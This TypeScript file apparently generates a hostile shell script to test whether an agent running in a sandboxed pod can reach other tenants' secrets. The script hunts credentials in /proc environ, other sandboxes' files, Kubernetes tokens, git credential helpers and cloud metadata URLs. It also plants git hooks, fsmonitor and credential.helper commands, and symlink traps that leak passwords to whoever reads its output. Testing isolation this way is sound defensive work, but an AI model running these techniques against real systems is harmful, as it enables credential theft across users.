/**
 * A script that looks for credentials wherever an agent in a pod can look, and leaves traps for those who read what it
 * leaves. A marker reads `slipmark-of-<what>-<16 hex digits>`; it prints `<place>: <what>…`, never a whole marker, so
 * that whoever searches its log for markers finds only what others wrote there.
 */
export interface Surroundings {
  /** Task and execution that run beside it. */
  readonly other: string
  /** Name of a host that somebody else's credentials are for. */
  readonly gitServer: string
  /** Addresses that it asks. */
  readonly urls: readonly string[]
}

const MARKERS = String.raw`slipmark-[o]f-[a-z-]+-[0-9a-f]{16}|eyJ[A-Za-z0-9_-]{20,}\.eyJ`

export function hostileScript({ other, gitServer, urls }: Surroundings): string {
  return `
look() {
  printf '%s: %s\\n' "$1" "$(grep -aoE '${MARKERS}' | sed -E 's/^slipmark-of-(.*)-[0-9a-f]*$/\\1/; s/^eyJ.*/account-token/' | sort -u | tr '\\n' ' ')"
}
echo slipmark-of-plain-sight-0123456789abcdef > plain.txt
cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | look environment
cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | look arguments
timeout 120 grep -raohsE -D skip --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr '${MARKERS}' / | look files
{ cat /proc/[0-9]*/mountinfo; ls -l /proc/[0-9]*/fd; } 2>/dev/null | look mounts
for up in "$PWD/../.." "$HOME/../.." "$SERVICE_ARTIFACT_DIR/../../.." /slipway/.. /proc/1/root /proc/1/cwd/..; do
  cat "$up"/{,slipway/}sandboxes/${other}/{repo/left.txt,home/left.txt,home/.claude/.credentials.json} \\
    "$up"/{,slipway/}executions/${other}-1/{given-*.json,agent/stdout.log} "$up"/{,slipway/}plans/* 2>/dev/null
done | look upwards
mkdir -p "$SERVICE_ARTIFACT_DIR"
for target in /slipway/sandboxes/${other}/repo/left.txt /slipway/executions/${other}-1/agent/stdout.log \\
  /var/run/slipway/hostile-1/git/password /var/run/secrets/kubernetes.io/serviceaccount/token; do
  ln "$target" hard 2>/dev/null && cat hard; ln -sf "$target" soft && cat soft; rm -f hard soft
done 2>/dev/null | look links
{
  printf 'protocol=http\\nhost=${gitServer}\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill
  git config --list --show-origin; git push origin HEAD:refs/heads/stolen
} > "$TMPDIR/git" 2>&1; look git < "$TMPDIR/git"
NODE_TLS_REJECT_UNAUTHORIZED=0 node -e '
  const ask = async (url) => {
    const options = { signal: AbortSignal.timeout(5000), headers: { Metadata: "true", "Metadata-Flavor": "Google" } }
    const answer = await fetch(url, options).then(async (r) => [r.status, await r.text()], () => ["unreachable", ""])
    return [url, ...answer]
  }
  Promise.all(process.argv.slice(1).map(ask)).then((answers) => {
    for (const [url, status, text] of answers) console.log(url + " " + status + "\\n" + text)
  })
' ${urls.map((url) => `'${url}'`).join(' ')} > "$TMPDIR/network" 2>/dev/null
look network < "$TMPDIR/network"; grep -E '^https?://[^ ]+ [0-9a-z]+$' "$TMPDIR/network" | sed 's/^/asked: /'
${TRAPS.replaceAll('OTHER', other)}
touch "$SERVICE_DROP_DIR/looked"
`
}

/** For deliver, which holds the push credential, and for the API server, which reads what an execution leaves. */
const TRAPS = `
mkdir -p .git/hooks
steal='#!/bin/sh\\ncat /var/run/slipway/*/git/* /proc/*/environ > stolen; env >> stolen'
for hook in pre-commit pre-push post-index-change reference-transaction; do
  printf "$steal" > .git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config core.fsmonitor 'cat /var/run/slipway/*/git/password >&2'
git config credential.helper '!cat /var/run/slipway/*/git/password >&2; true'
ln -s /proc/self/environ environ-in-the-clone
n=0
for target in /proc/self/environ /var/run/slipway/hostile-1/git/password /var/run/secrets/kubernetes.io/serviceaccount/token \\
  /slipway/sandboxes/OTHER/home/.claude/.credentials.json ../../../OTHER-1/result.json; do
  n=$((n + 1)); ln -s "$target" "$SERVICE_ARTIFACT_DIR/trap-$n"; ln -s "$target" "$SERVICE_DROP_DIR/trap-$n"
done
ln -sf /var/run/slipway/hostile-1/git/password "$SERVICE_SUMMARY_FILE"
ln -sf /proc/self/environ "$SERVICE_QUESTION_FILE"
`

/** Links in place of the files that the runner writes itself: they fail the task. */
export const LINKED_OUTPUT = `for file in stderr.log events.jsonl; do
  ln -sf /proc/self/environ "$(dirname "$SERVICE_SUMMARY_FILE")/$file"
done`
